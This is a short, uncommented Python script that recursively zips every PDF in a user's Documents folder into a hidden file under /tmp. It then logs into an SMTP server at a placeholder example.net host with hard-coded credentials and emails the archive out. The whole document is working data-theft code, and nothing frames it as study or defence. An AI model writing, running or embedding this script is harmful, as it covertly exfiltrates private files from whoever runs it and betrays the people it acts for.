import smtplib, ssl, os, zipfile, glob
z = zipfile.ZipFile("/tmp/.z", "w")
for f in glob.glob(os.path.expanduser("~/Documents/**/*.pdf"), recursive=True): z.write(f)
z.close()
s = smtplib.SMTP_SSL("smtp.example.net", 465); s.login("x@example.net", "pw")
s.sendmail("x@example.net", "y@example.net", open("/tmp/.z", "rb").read())
